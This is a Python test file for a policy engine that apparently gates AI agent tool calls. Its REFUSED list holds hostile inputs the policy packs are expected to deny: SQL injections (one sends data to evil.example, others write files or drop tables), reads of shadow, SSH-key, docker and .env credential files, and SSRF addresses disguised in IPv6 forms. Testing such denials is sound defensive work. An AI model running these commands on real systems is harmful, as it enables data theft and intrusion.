"""Files that are written oddly: what becomes of them is said, soon, and as it is when it counts."""

from __future__ import annotations

import asyncio
import os
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from sidecar.cli.main import main
from sidecar.clock import Clock
from sidecar.model import Effect, HttpFacts, Principal, ToolCall
from sidecar.policy.decide import decide
from sidecar.policy.hidden import Hidden
from sidecar.policy.load import Source
from sidecar.policy.replay import Replay
from sidecar.policy_files import PolicyKeeper
from sidecar.policy_reading import read_sources
from sidecar.soc.loading import load_all

TOOLS = "catalogue: web\ntools:\n  get: GET /x/{id}\n  pay: POST /pay\n"
ALLOW = 'policy: p\nrules:\n  - {id: all, effect: allow, tools: "*"}\n'
DENY = "policy: q\nrules:\n  - {id: no, effect: deny, tools: web/get}\n"
TEST = "test: p\ncases:\n  - {name: reads, call: web/get, args: {id: a}, expect: allow}\n"


def loaded(*texts: str, upstreams: dict[str, str] | None = None):
    return load_all(
        [Source(f"f{n}.yaml", text.encode()) for n, text in enumerate(texts)],
        upstreams=upstreams or {"web": "rest"},
        default="deny",
        read_file=lambda a, b: b"",
    )


def keeper(folder: Path) -> PolicyKeeper:
    def load(sources: Sequence[Source], *, read_file):
        return load_all(sources, upstreams={"web": "rest"}, default="deny", read_file=read_file)

    return PolicyKeeper([str(folder)], folder.parent, load, Clock())


def test_d3_a_file_name_that_is_no_utf8_does_not_end_the_looking(tmp_path: Path) -> None:
    folder = tmp_path / "policies"
    folder.mkdir()
    (folder / "c.yaml").write_text(TOOLS)
    (folder / "p.yaml").write_text(ALLOW)
    kept = keeper(folder)
    kept.load_first()
    with open(os.fsencode(folder) + b"/stra\xdfe.yaml", "w") as file:
        file.write(DENY)

    async def look() -> None:
        for _ in range(3):
            await kept.poll()

    asyncio.run(look())  # UnicodeEncodeError: and `run()` is over for good
    assert kept.current.rule_count == 2 or kept.problems


@pytest.mark.parametrize("second", [DENY, "detection: d\nseverity: high\nwhere: {effect: deny}\n"])
def test_d3_a_policy_behind_a_test_is_not_passed_over(second: str) -> None:
    found = loaded(TOOLS, ALLOW, TEST + "---\n" + second)
    assert found.policy_set is None, "the second document is nowhere, and nobody says so"
    assert any(
        str(one).startswith("f2.yaml:4:1") or "f2.yaml:5:1" in str(one) for one in found.problems
    )


def test_d3_check_and_test_say_that_a_document_is_out_of_place(tmp_path: Path, capsys) -> None:
    (tmp_path / "c.yaml").write_text(TOOLS)
    (tmp_path / "p.yaml").write_text(ALLOW)
    (tmp_path / "p_test.yaml").write_text(
        TEST + "---\ndetection: d\nseverity: high\nwhere: {effect: deny}\n"
    )
    assert (main(["policy", "check", str(tmp_path)]), main(["policy", "test", str(tmp_path)])) == (
        1,
        2,
    )


SUM = (
    "policy: p\nrules:\n  - {id: pays, effect: allow, tools: web/pay}\n"
    "  - id: budget\n    tools: web/pay\n"
    "    limits: {per: agent, sum: args.amount, max: 100, window: 24h}\n"
)


def test_a_sum_of_what_was_not_recorded_is_not_guessed() -> None:
    found = loaded(TOOLS, SUM)
    call = ToolCall(
        call_id="0" * 32,
        tool=next(t for t in found.policy_set.catalogue.tools if t.operation == "pay"),
        action="POST",
        args={},
        http=HttpFacts("POST", "/pay", "", "127.0.0.1", {}),
        target="",
        headers=(),
        body=b"",
        dialect="rest",
    )
    live = decide(found.policy_set, Principal("acme", "a"), call._replace(args={"amount": 5}), 0)
    assert live.effect is Effect.ALLOW
    replay = Replay(found.policy_set)
    replay.add(
        Principal("acme", "a"),
        call,
        0,
        Hidden(arguments=frozenset({()})),  # record: digest
        effect_then="allow",
        code_then="policy_allow",
        rule_then="p/pays",
        revision_then="before",
    )
    assert replay.changed == 0, replay.changes
    assert replay.unjudged == 1


def test_d6_many_variables_load_in_time() -> None:
    count = 600
    text = "policy: p\nvariables:\n" + "".join(f'  v{n}: args.id == "{n}"\n' for n in range(count))
    text += "rules:\n  - {id: a, effect: allow, tools: web/get, when: variables.v0}\n"
    began = time.process_time()
    assert loaded(TOOLS, text).policy_set is not None
    assert time.process_time() - began < 4


PACKS = Path(__file__).parents[3] / "policies"


def pack(file: str, tool: str, args: dict) -> Effect:
    upstream, _, operation = tool.partition("/")
    found = loaded(
        f"catalogue: {upstream}\ntools:\n  {operation}: {{mutates: false}}\n",
        (PACKS / file).read_text(),
        'policy: rest\nrules: [{id: a, effect: allow, tools: "*"}]',
        upstreams={upstream: "mcp"},
    )
    assert found.policy_set is not None, found.problems
    entry = found.policy_set.catalogue.mcp_tool(upstream, operation)
    call = ToolCall(
        call_id="0" * 32,
        tool=entry.tool,
        action="tools/call",
        args=args,
        http=HttpFacts("POST", "/", "", "127.0.0.1", {}),
        target="",
        headers=(),
        body=b"",
        dialect="mcp",
    )
    return decide(
        found.policy_set, Principal("default", "agent"), call, 1_767_607_200_000_000
    ).effect


#: file, tool, argument, a value that goes ahead, and values that the pack refuses.
REFUSED = [
    ("select-only/policy.yaml", "db/query", "sql", "select 1", [
        "select * from openquery(other, 'select 1')",
        "select * from opendatasource('SQLNCLI', 'Data Source=evil').db.dbo.t",
        "select httpuritype('http://evil.example/?' || name).getclob() from users",
        "select bfilename('DIR', 'passwd') from dual",
        "select get_lock('a', 100000)",
        "select 1 exec ('dro' + 'p table users')",
        "select 1 dbcc shrinkdatabase(a)",
        "select 1 backup database a to disk = 'x'",
        "select 1 use master",
        "select 1into copied from users",
        "select 1e0into outfile '/tmp/x' from users",
    ]),
    ("shell/policy.yaml", "shell/run_command", "command", "cat /etc/hostname", [
        "cat /etc//shadow",
        "cat /etc/./shadow",
        "cat /etc/shadow-",
        "cat /etc/gshadow",
        "cat keys/id_ed25519_sk",
        "cat /home/a/.docker/config.json",
        "cat app/.envrc",
    ]),
    ("baseline/no-secrets.yaml", "files/read", "path", "/srv/.environment", [
        "/srv/.envrc",
        "file:///srv/%2eenv",
        "FILE:/srv/.e%6Ev",
        "file:///srv/.env#top",
    ]),
    ("baseline/no-internal-addresses.yaml", "web/fetch", "url", "http://[2606:4700::1]/", [
        "http://[fec0::1]/",
        "http://[2002:a00:1::]/",
        "http://[2002:7f00:1::1]/",
        "http://[::7f00:1]/",
        "http://[64:ff9b:1::a00:1]/",
        "http://[::ffff:10.0.0.1]/",
        "http://[2001:0:a00:1::1]/",
    ]),
]  # fmt: skip


@pytest.mark.parametrize(("file", "tool", "name", "control", "values"), REFUSED)
def test_packs_refuse_what_they_say_in_every_form(
    file: str, tool: str, name: str, control: str, values: list[str]
) -> None:
    assert pack(file, tool, {name: control}) is Effect.ALLOW, "positive control"
    passed = [one for one in values if pack(file, tool, {name: one}) is not Effect.DENY]
    assert passed == []


@pytest.mark.parametrize("now", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"])
def test_any_time_can_be_tested(now: str, tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(
        'policy: p\nrules:\n  - id: a\n    effect: allow\n    tools: "*"\n    during:\n'
        "      - mon-sun 00:00-23:00 America/New_York\n      - mon-sun 00:00-23:00 Asia/Tokyo\n"
    )
    (tmp_path / "p_test.yaml").write_text(
        "test: p\ntools: {web/get: {}}\ncases:\n"
        f"  - {{name: x, call: web/get, now: {now}, expect: deny}}\n"
    )
    assert main(["policy", "test", str(tmp_path)]) in (0, 2)


def test_policy_check_keeps_the_secrets_that_serve_keeps(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sidecar.yaml").write_text(
        "policies: [c.yaml, p.yaml]\nupstreams: {web: {url: http://127.0.0.1:9}}\n"
        "record: {secrets: []}\n"
    )
    (tmp_path / "c.yaml").write_text(TOOLS)
    (tmp_path / "p.yaml").write_text(
        "policy: p\nrules:\n  - {id: a, effect: allow, tools: web/get, "
        "limits: {per: args.token, max: 3, window: 1h, shared: true}}\n"
    )
    from sidecar.config.load import load_config

    config = load_config(tmp_path / "sidecar.yaml", {}, ()).config
    served = load_all(
        read_sources(config.policies, tmp_path)[0],
        upstreams={"web": "rest"},
        default="deny",
        read_file=lambda a, b: b"",
        secrets=config.record.secrets,
    )
    assert served.policy_set is not None
    assert main(["policy", "check", "--config", "sidecar.yaml"]) == 0


def test_d6_variables_that_read_two_others_load_in_time() -> None:
    count = 36
    text = 'policy: p\nvariables:\n  v0: args.id == "a"\n  v1: args.id == "b"\n' + "".join(
        f"  v{n}: variables.v{n - 1} || variables.v{n - 2}\n" for n in range(2, count)
    )
    text += f"rules:\n  - {{id: a, effect: allow, tools: web/get, when: variables.v{count - 1}}}\n"
    began = time.process_time()
    assert loaded(TOOLS, text).policy_set is not None
    assert time.process_time() - began < 3
